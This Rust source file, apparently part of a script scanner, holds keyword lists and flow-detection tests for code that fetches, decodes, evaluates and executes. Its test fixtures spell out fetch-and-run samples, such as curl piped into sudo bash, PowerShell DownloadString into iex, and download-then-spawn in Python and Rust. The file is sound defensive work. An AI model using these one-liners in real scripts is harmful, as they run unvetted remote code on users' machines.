//! What stands in scripts and pages: words by which they fetch, decode, evaluate and execute, and how their text looks.

mod command;
mod flow;
mod looks;

use std::{collections::BTreeSet, sync::LazyLock};

use aho_corasick::AhoCorasick;

use super::Type;
use crate::Facts;

/// So many bytes of a script are looked at.
const LIMIT: usize = 8 << 20;

/// Words, each with the field that it is told in.
const WORDS: &[(&str, &[&str])] = &[
    (
        "Evaluates",
        &[
            "eval(",
            "new Function(",
            "Function(",
            "vm.runIn",
            "runInNewContext(",
            "runInThisContext(",
            "execScript",
            "ExecuteGlobal",
            "Invoke-Expression",
            "iex ",
            "iex(",
            "exec(",
            "compile(",
            "marshal.loads",
            "document.write(unescape",
            "setTimeout(atob",
        ],
    ),
    (
        "Fetches",
        &[
            "https.get(",
            "http.get(",
            "fetch(",
            "axios",
            "XMLHttpRequest",
            "request(",
            "urlopen(",
            "urlretrieve(",
            "requests.get(",
            "requests.post(",
            "curl ",
            "wget ",
            "\"curl\"",
            "'curl'",
            "\"wget\"",
            "'wget'",
            "Invoke-WebRequest",
            "Invoke-RestMethod",
            "DownloadString",
            "DownloadFile",
            "WebClient",
            "MSXML2.",
            "WinHttp",
            "bitsadmin",
            "certutil",
            "Start-BitsTransfer",
        ],
    ),
    (
        "Decodes",
        &[
            "atob(",
            "fromCharCode",
            "'base64'",
            "\"base64\"",
            "b64decode",
            "FromBase64String",
            "unhexlify",
            "fromhex(",
            "'hex'",
            "\"hex\"",
            "unescape(",
            "decodeURIComponent(",
            "base64 -d",
            "base64 --decode",
            "-decode",
            "zlib.decompress",
            "-enc ",
            "-EncodedCommand",
        ],
    ),
    (
        "Executes",
        &[
            "child_process",
            "execSync(",
            "spawn(",
            "execFile(",
            "os.system(",
            "subprocess",
            "popen(",
            "WScript.Shell",
            "Shell.Application",
            "Start-Process",
            "Command::new(",
            "powershell",
            "mshta",
            "rundll32",
            "regsvr32",
            "wscript",
            "cscript",
            "cmd /c",
            "cmd.exe",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "os.startfile(",
            "CreateObject(",
        ],
    ),
    (
        "Smuggles",
        &["msSaveOrOpenBlob", "msSaveBlob", "createObjectURL", "new Blob(", ".download=", ".download =", "download=\""],
    ),
];

/// A field, and a word that it is told by.
type Word = (&'static str, &'static str);

/// All words; those of one field follow one another.
static SEARCH: LazyLock<Option<(AhoCorasick, Vec<Word>)>> = LazyLock::new(|| {
    let words: Vec<Word> = WORDS.iter().flat_map(|(field, words)| words.iter().map(|word| (*field, *word))).collect();
    let search = AhoCorasick::builder().ascii_case_insensitive(true).build(words.iter().map(|(_, word)| *word)).ok()?;
    Some((search, words))
});

/// Tells what stands in a script of this type; the limits that were hit.
pub fn facts(kind: Type, bytes: &[u8], facts: &mut Facts) -> Vec<String> {
    let behind = bytes.get(LIMIT + 1..).map(|_| {
        format!("limit: expected a script of at most {LIMIT} bytes, found more; what is behind was not looked at")
    });
    let bytes = bytes.get(..LIMIT).unwrap_or(bytes);
    if let Some((search, words)) = &*SEARCH {
        let found: BTreeSet<usize> =
            search.find_overlapping_iter(bytes).map(|found| found.pattern().as_usize()).collect();
        for (field, word) in found.iter().filter_map(|number| words.get(*number)) {
            facts.tell(*field, word.trim());
        }
    }
    looks::facts(bytes, facts);
    let limit = flow::facts(kind, bytes, facts);
    behind.into_iter().chain(limit).collect()
}

#[cfg(test)]
mod tests {
    use event::Position;

    use super::*;
    use crate::Kind;

    fn told_of(kind: Type, text: &str) -> impl Fn(&'static str) -> Vec<String> + use<> {
        let mut told = Facts::new(Kind::File, Position::Record(1), None);
        assert_eq!(facts(kind, text.as_bytes(), &mut told), [""; 0]);
        move |name| told.values(name).map(|value| value.into_owned()).collect()
    }

    fn told(text: &str) -> impl Fn(&'static str) -> Vec<String> + use<> {
        told_of(Type::JavaScript, text)
    }

    /// What is evaluated or executed, and where it comes from.
    fn flows(kind: Type, text: &str) -> Vec<&'static str> {
        let told = told_of(kind, text);
        let fields = ["EvaluatesFetched", "EvaluatesDecoded", "ExecutesFetched", "ExecutesDecoded", "FetchesAndRuns"];
        fields.into_iter().filter(|field| !told(field).is_empty()).collect()
    }

    #[track_caller]
    fn flow(kind: Type, expected: &[&str], texts: &[&str]) {
        for text in texts {
            assert_eq!(flows(kind, text), expected, "{text}");
        }
    }

    #[test]
    fn fetched_text_is_evaluated() {
        let texts = [
            "axios.get(u).then(r => new Function('require', r.data.cookie)(require))",
            "const { data } = await axios.get(u);\nlog(1);\neval(data)",
            "fetch(u).then(r=>r.text()).then(eval)",
            "axios.post(u, {}).then(r => { log(r) }).catch(e=>eval(e.response.data))",
            "try { await axios.get(u) } catch (problem) { eval(problem.response.data.message) }",
            "https.get(u, res => { let s = ''; res.on('data', c => s += c); res.on('end', () => { eval(s) }) })",
            "https.get(u, function (answer) {\n  let text = '';\n  answer.on('data', function (part) {\n    text += part;\n  });\n  answer.on('end', () => vm.runInThisContext(text));\n});",
            "async function load() {\n  const r = await fetch(u);\n  return r.text();\n}\nload().then(0);\n(0, eval)(await load())",
            "const x = new XMLHttpRequest(); x.onload = () => { window.eval(x.responseText) }",
            "request(u, (err, res, body) => { new Function(body)() })",
            "const handler = new Function.constructor('require', (await axios.get(u)).data);",
            "const r = await fetch(u);\neval (r)",
            "const r = await fetch(u);\neval /* so */\n(r)",
            "const r = await fetch(u);\nthis.eval(r)",
            "const r = await fetch(u);\neval.call(null, r)",
            "const r: string = await fetch(u);\neval(')' + r)",
            "const parts = [];\nparts.push(await fetch(u));\neval(parts.join(''))",
            "cache[key] = await fetch(u);\neval(cache[key])",
            "let r;\nr ??= await fetch(u);\nglobalThis.eval(r)",
        ];
        flow(Type::JavaScript, &["EvaluatesFetched"], &texts);
        let texts = [
            "exec(requests.get(u).text)",
            "import urllib.request\nsource = urllib.request.urlopen(u).read().decode()\nexec(compile(source, 'x', 'exec'))",
            "def get():\n    with urlopen(u) as answer:\n        return answer.read()\n\nexec(get())",
            "exec(\n    requests.get(\n        u\n    ).text\n)",
        ];
        flow(Type::Python, &["EvaluatesFetched"], &texts);
    }

    #[test]
    fn decoded_text_is_evaluated_or_executed() {
        flow(
            Type::JavaScript,
            &["EvaluatesDecoded"],
            &["eval(atob('MQ=='))", "const s = Buffer.from(t, 'base64').toString();\neval(s)"],
        );
        flow(
            Type::Python,
            &["EvaluatesDecoded"],
            &["exec(zlib.decompress(base64.b64decode('eA==')))", "code = bytes.fromhex('31')\nexec(code)"],
        );
        flow(Type::Python, &["ExecutesDecoded"], &["os.system(base64.b64decode('bHM=').decode())"]);
    }

    #[test]
    fn what_was_fetched_is_executed() {
        flow(
            Type::Python,
            &["ExecutesFetched"],
            &[
                "urllib.request.urlretrieve(u, '/tmp/helper')\nsubprocess.Popen(['/tmp/helper'])",
                "data = urlopen(u).read()\nwith open(target, 'wb') as out:\n    out.write(data)\nsubprocess.Popen([sys.executable, target])",
                "open('a.py', 'wb').write(requests.get(u).content)\nos.system('python a.py')",
                "os.system('curl -so /tmp/a https://example.org/a')\nos.system('sh /tmp/a')",
            ],
        );
        flow(
            Type::Rust,
            &["ExecutesFetched"],
            &[
                "use std::process::Command;\nfn main() {\n    Command::new(\"curl\").args([\"-so\", \"/tmp/x\", \"https://example.org/x\"]).status().unwrap();\n    Command::new(\"/tmp/x\").spawn().unwrap();\n}\n",
                "Command::new(\"curl\")\n    .args([\"-o\", \"/tmp/x\", URL])\n    .status();\nCommand::new(\"/tmp/x\").spawn();",
                "let got = Command::new(\"wget\").arg(url).output().unwrap();\nstd::fs::write(&place, got.stdout);\nCommand::new(\"sh\").arg(&place).status();",
            ],
        );
        flow(
            Type::Python,
            &["FetchesAndRuns"],
            &[
                "os.system('curl -s https://example.org/a -o /tmp/a && sh /tmp/a')",
                "line = 'wget -qO- https://example.org | bash'\nsubprocess.call(line, shell=True)",
            ],
        );
        flow(
            Type::JavaScript,
            &["FetchesAndRuns"],
            &[
                "const { exec } = require('child_process');\nexec('curl -s https://example.org/a | sh')",
                "require('child_process').exec(`curl ${u} | node`)",
            ],
        );
        flow(
            Type::Rust,
            &["FetchesAndRuns"],
            &["Command::new(\"sh\").args([\"-c\", \"curl -s https://example.org | sh\"])"],
        );
        flow(
            Type::Shell,
            &["FetchesAndRuns"],
            &[
                "curl -fsSL https://example.org | sudo bash\n",
                "sh -c \"$(curl -fsSL https://example.org)\"\n",
                "curl -fsSL https://example.org | sudo -u root A=b /usr/bin/bash\n",
                "echo 'one; two'; curl https://example.org | sh\n",
                "set -e; bash -c \"$(curl https://example.org)\"\n",
                "curl https://example.org \\\n  | sh\n",
            ],
        );
    }

    #[test]
    fn a_shell_evaluates_what_it_is_given() {
        flow(
            Type::PowerShell,
            &["EvaluatesFetched"],
            &["$x = Invoke-WebRequest $u\nIeX $x", "$x = (New-Object Net.WebClient).DownloadString($u); $x | iex"],
        );
    }

    #[test]
    fn honest_flows() {
        flow(
            Type::JavaScript,
            &[],
            &[
                "fetch('/api').then(eval)",
                "const other = 1;\ncache[key] = await fetch(u);\nnew Function(other)",
                "const code = await fetch(u);\nnew Function('return code')",
                "eval('fetch(u)')",
                "fetch(u).then(r => r.json()).then(d => { const m = /x/.exec(d.text) })",
                "const html = compile(template); fetch(u); new Function('a', 'return a')",
                "const hash = crypto.createHash('md5').digest('hex');\nconst f = new Function('return 1')",
                "child_process.execSync('curl --version')",
                "console.log('run: curl https://sh.rustup.rs | sh')",
            ],
        );
        flow(
            Type::Python,
            &[],
            &[
                "exec(open('x/version.py').read(), about)",
                "data = urlopen(u).read()\nopen('a.tar.gz', 'wb').write(data)\nsubprocess.check_call(['tar', 'xf', 'a.tar.gz'])\nsubprocess.check_call(['make'])",
                "print('curl https://sh.rustup.rs | sh')",
                "m = re.compile(requests.get(u).text)",
                "where = base64.b64decode(a)\nsubprocess.run(\"where tesseract\", shell=True)",
            ],
        );
        flow(
            Type::Rust,
            &[],
            &[
                "Command::new(\"curl\").args([\"-o\", \"a.tar.gz\", URL]).status();\nCommand::new(\"tar\").args([\"xf\", \"a.tar.gz\"]);\nCommand::new(\"cmake\").status();",
            ],
        );
        flow(
            Type::Shell,
            &[],
            &[
                "curl -fsSL https://example.org -o a.tgz && tar xf a.tgz\n",
                "# curl https://example.org | sh\n",
                "echo 'curl https://example.org | sh'\n",
            ],
        );
    }

    #[test]
    fn what_is_behind_the_limit_is_told() {
        let mut told = Facts::new(Kind::File, Position::Record(1), None);
        let damages = facts(Type::JavaScript, &vec![b'\n'; LIMIT + 1], &mut told);
        assert!(damages.iter().any(|damage| damage.starts_with("limit: ")), "{damages:?}");
    }

    #[test]
    fn words_and_looks() {
        let told = told("const _0x3f2a=1;var x=5;                    eval(atob('QUJD'))\nfetch(u)");
        assert_eq!(told("Evaluates"), ["eval("]);
        assert_eq!(told("Decodes"), ["atob("]);
        assert_eq!(told("Fetches"), ["fetch("]);
        assert_eq!(told("ObfuscatedNames"), ["1"]);
        assert_eq!(told("CodeBehindBlanks"), ["20"]);
        assert_eq!(told("Lines"), ["2"]);
    }

    #[test]
    fn indentation_is_not_code_behind_blanks() {
        assert_eq!(told("          a = 1\n\t\t\tb\r\n")("CodeBehindBlanks"), ["1"]);
    }
}
